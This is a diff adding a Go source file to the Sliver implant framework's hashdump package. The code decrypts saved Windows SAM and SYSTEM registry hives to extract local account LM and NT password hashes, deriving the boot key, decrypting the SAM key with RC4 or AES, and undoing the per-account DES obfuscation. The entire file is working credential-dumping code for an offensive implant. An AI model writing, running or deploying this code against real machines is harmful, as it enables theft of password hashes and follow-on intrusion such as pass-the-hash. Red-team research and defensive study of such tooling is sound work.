@@ -0,0 +1,325 @@
+package hashdump
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/aes"
+	"crypto/cipher"
+	"crypto/des"
+	"crypto/md5"
+	"crypto/rc4"
+	"encoding/binary"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"sort"
+	"strconv"
+)
+
+// Local account hashes are stored in the SAM hive, encrypted with a key that
+// is itself encrypted with the boot key hidden in the SYSTEM hive
+
+const (
+	// EmptyLMHash - LM hash of an empty password, or no LM hash stored
+	EmptyLMHash = "aad3b435b51404eeaad3b435b51404ee"
+	// EmptyNTHash - NT hash of an empty password
+	EmptyNTHash = "31d6cfe0d16ae931b73c59d7e0c089c0"
+
+	userVDataOffset = 0xcc
+)
+
+var (
+	bootKeyPermutation = []int{8, 5, 4, 2, 11, 9, 13, 3, 0, 6, 1, 12, 14, 10, 15, 7}
+
+	samQwerty = []byte("!@#$%^&*()qwertyUIOPAzxcvbnmQQQQQQQQQQQQ)(*@&%\x00")
+	samDigits = []byte("0123456789012345678901234567890123456789\x00")
+
+	ntPassword = []byte("NTPASSWORD\x00")
+	lmPassword = []byte("LMPASSWORD\x00")
+)
+
+// Account - A local account and its hashes
+type Account struct {
+	Username string
+	RID      uint32
+	LMHash   string
+	NTHash   string
+}
+
+// ParseSAM - Decrypt the account hashes from SAM and SYSTEM hives saved with RegSaveKey
+func ParseSAM(samData []byte, systemData []byte) ([]*Account, error) {
+	system, err := openHive(systemData)
+	if err != nil {
+		return nil, fmt.Errorf("SYSTEM: %s", err)
+	}
+	sam, err := openHive(samData)
+	if err != nil {
+		return nil, fmt.Errorf("SAM: %s", err)
+	}
+	bootKey, err := getBootKey(system)
+	if err != nil {
+		return nil, err
+	}
+	hashedBootKey, err := getHashedBootKey(sam, bootKey)
+	if err != nil {
+		return nil, err
+	}
+	users, err := sam.Key(`SAM\Domains\Account\Users`)
+	if err != nil {
+		return nil, err
+	}
+	subkeys, err := users.Subkeys()
+	if err != nil {
+		return nil, err
+	}
+	accounts := []*Account{}
+	for _, subkey := range subkeys {
+		rid, err := strconv.ParseUint(subkey.Name, 16, 32)
+		if err != nil {
+			continue // "Names"
+		}
+		v, err := subkey.Value("V")
+		if err != nil {
+			continue
+		}
+		account, err := decryptAccount(uint32(rid), v, hashedBootKey)
+		if err != nil {
+			return nil, fmt.Errorf("RID %d: %s", rid, err)
+		}
+		accounts = append(accounts, account)
+	}
+	sort.Slice(accounts, func(i, j int) bool {
+		return accounts[i].RID < accounts[j].RID
+	})
+	return accounts, nil
+}
+
+// getBootKey - The boot key is scrambled across the class names of four Lsa subkeys
+func getBootKey(system *hive) ([]byte, error) {
+	sel, err := system.Key("Select")
+	if err != nil {
+		return nil, err
+	}
+	current, err := sel.Value("Current")
+	if err != nil {
+		return nil, err
+	}
+	if len(current) < 4 {
+		return nil, errors.New("Invalid current control set")
+	}
+	lsaPath := fmt.Sprintf(`ControlSet%03d\Control\Lsa`, binary.LittleEndian.Uint32(current))
+	scrambled := ""
+	for _, name := range []string{"JD", "Skew1", "GBG", "Data"} {
+		key, err := system.Key(lsaPath + `\` + name)
+		if err != nil {
+			return nil, err
+		}
+		class, err := key.ClassName()
+		if err != nil {
+			return nil, err
+		}
+		scrambled += class
+	}
+	raw, err := hex.DecodeString(scrambled)
+	if err != nil || len(raw) != len(bootKeyPermutation) {
+		return nil, errors.New("Invalid boot key")
+	}
+	bootKey := make([]byte, len(raw))
+	for index, from := range bootKeyPermutation {
+		bootKey[index] = raw[from]
+	}
+	return bootKey, nil
+}
+
+// getHashedBootKey - Decrypt the SAM key from the domain account F value
+func getHashedBootKey(sam *hive, bootKey []byte) ([]byte, error) {
+	account, err := sam.Key(`SAM\Domains\Account`)
+	if err != nil {
+		return nil, err
+	}
+	f, err := account.Value("F")
+	if err != nil {
+		return nil, err
+	}
+	if len(f) < 0x68+0x38 {
+		return nil, errors.New("Domain account F value is truncated")
+	}
+	keyData := f[0x68:]
+	switch keyData[0] {
+	case 1: // RC4
+		salt := keyData[8:24]
+		encrypted := keyData[24:56] // Key and checksum
+		digest := md5.New()
+		digest.Write(salt)
+		digest.Write(samQwerty)
+		digest.Write(bootKey)
+		digest.Write(samDigits)
+		cipher, _ := rc4.NewCipher(digest.Sum(nil))
+		hashedBootKey := make([]byte, len(encrypted))
+		cipher.XORKeyStream(hashedBootKey, encrypted)
+
+		check := md5.New()
+		check.Write(hashedBootKey[:16])
+		check.Write(samDigits)
+		check.Write(hashedBootKey[:16])
+		check.Write(samQwerty)
+		if !bytes.Equal(check.Sum(nil), hashedBootKey[16:32]) {
+			return nil, errors.New("Hashed boot key checksum mismatch, wrong SYSTEM hive?")
+		}
+		return hashedBootKey[:16], nil
+
+	case 2: // AES
+		dataLength := int(binary.LittleEndian.Uint32(keyData[12:]))
+		if len(keyData) < 32+dataLength {
+			return nil, errors.New("Domain account F value is truncated")
+		}
+		hashedBootKey, err := decryptAES(bootKey, keyData[16:32], keyData[32:32+dataLength])
+		if err != nil {
+			return nil, err
+		}
+		if len(hashedBootKey) < 16 {
+			return nil, errors.New("Hashed boot key is truncated")
+		}
+		return hashedBootKey[:16], nil
+	}
+	return nil, fmt.Errorf("Unknown SAM key revision %d", keyData[0])
+}
+
+func decryptAccount(rid uint32, v []byte, hashedBootKey []byte) (*Account, error) {
+	if len(v) < userVDataOffset {
+		return nil, errors.New("V value is truncated")
+	}
+	field := func(entry int) ([]byte, error) {
+		offset := int(binary.LittleEndian.Uint32(v[entry:])) + userVDataOffset
+		length := int(binary.LittleEndian.Uint32(v[entry+4:]))
+		if len(v) < offset+length {
+			return nil, errors.New("V value is truncated")
+		}
+		return v[offset : offset+length], nil
+	}
+	name, err := field(0x0c)
+	if err != nil {
+		return nil, err
+	}
+	account := &Account{
+		Username: decodeName(name, false),
+		RID:      rid,
+		LMHash:   EmptyLMHash,
+		NTHash:   EmptyNTHash,
+	}
+	lm, err := field(0x9c)
+	if err != nil {
+		return nil, err
+	}
+	if hash, err := decryptHash(rid, lm, hashedBootKey, lmPassword); err != nil {
+		return nil, err
+	} else if hash != nil {
+		account.LMHash = hex.EncodeToString(hash)
+	}
+	nt, err := field(0xa8)
+	if err != nil {
+		return nil, err
+	}
+	if hash, err := decryptHash(rid, nt, hashedBootKey, ntPassword); err != nil {
+		return nil, err
+	} else if hash != nil {
+		account.NTHash = hex.EncodeToString(hash)
+	}
+	return account, nil
+}
+
+// decryptHash - Returns nil if no hash is stored
+func decryptHash(rid uint32, blob []byte, hashedBootKey []byte, constant []byte) ([]byte, error) {
+	if len(blob) < 4 {
+		return nil, nil
+	}
+	var obfuscated []byte
+	switch binary.LittleEndian.Uint16(blob[2:]) {
+	case 1: // RC4
+		if len(blob) < 20 {
+			return nil, nil
+		}
+		ridBytes := make([]byte, 4)
+		binary.LittleEndian.PutUint32(ridBytes, rid)
+		digest := md5.New()
+		digest.Write(hashedBootKey)
+		digest.Write(ridBytes)
+		digest.Write(constant)
+		cipher, _ := rc4.NewCipher(digest.Sum(nil))
+		obfuscated = make([]byte, 16)
+		cipher.XORKeyStream(obfuscated, blob[4:20])
+	case 2: // AES, the data is empty if there's no hash
+		if len(blob) <= 24 {
+			return nil, nil
+		}
+		decrypted, err := decryptAES(hashedBootKey, blob[8:24], blob[24:])
+		if err != nil {
+			return nil, err
+		}
+		if len(decrypted) < 16 {
+			return nil, nil
+		}
+		obfuscated = decrypted[:16]
+	default:
+		return nil, fmt.Errorf("Unknown hash revision %d", binary.LittleEndian.Uint16(blob[2:]))
+	}
+	key1, key2 := ridDESKeys(rid)
+	hash := make([]byte, 16)
+	block1, _ := des.NewCipher(key1)
+	block1.Decrypt(hash[:8], obfuscated[:8])
+	block2, _ := des.NewCipher(key2)
+	block2.Decrypt(hash[8:], obfuscated[8:])
+	return hash, nil
+}
+
+// decryptAES - AES-128-CBC without padding removal, trailing blocks are ignored by the callers
+func decryptAES(key []byte, iv []byte, data []byte) ([]byte, error) {
+	block, err := aes.NewCipher(key)
+	if err != nil {
+		return nil, err
+	}
+	data = data[:len(data)-len(data)%aes.BlockSize]
+	plaintext := make([]byte, len(data))
+	cipher.NewCBCDecrypter(block, iv).CryptBlocks(plaintext, data)
+	return plaintext, nil
+}
+
+// ridDESKeys - The two DES keys derived from a RID that obfuscate each hash
+func ridDESKeys(rid uint32) ([]byte, []byte) {
+	k := make([]byte, 4)
+	binary.LittleEndian.PutUint32(k, rid)
+	key1 := []byte{k[0], k[1], k[2], k[3], k[0], k[1], k[2]}
+	key2 := []byte{k[3], k[0], k[1], k[2], k[3], k[0], k[1]}
+	return expandDESKey(key1), expandDESKey(key2)
+}
+
+// expandDESKey - Spread 56 key bits over 8 bytes, the parity bits are left clear
+func expandDESKey(key []byte) []byte {
+	return []byte{
+		key[0] >> 1 << 1,
+		(key[0]&0x01<<6 | key[1]>>2) << 1,
+		(key[1]&0x03<<5 | key[2]>>3) << 1,
+		(key[2]&0x07<<4 | key[3]>>4) << 1,
+		(key[3]&0x0f<<3 | key[4]>>5) << 1,
+		(key[4]&0x1f<<2 | key[5]>>6) << 1,
+		(key[5]&0x3f<<1 | key[6]>>7) << 1,
+		key[6] & 0x7f << 1,
+	}
+}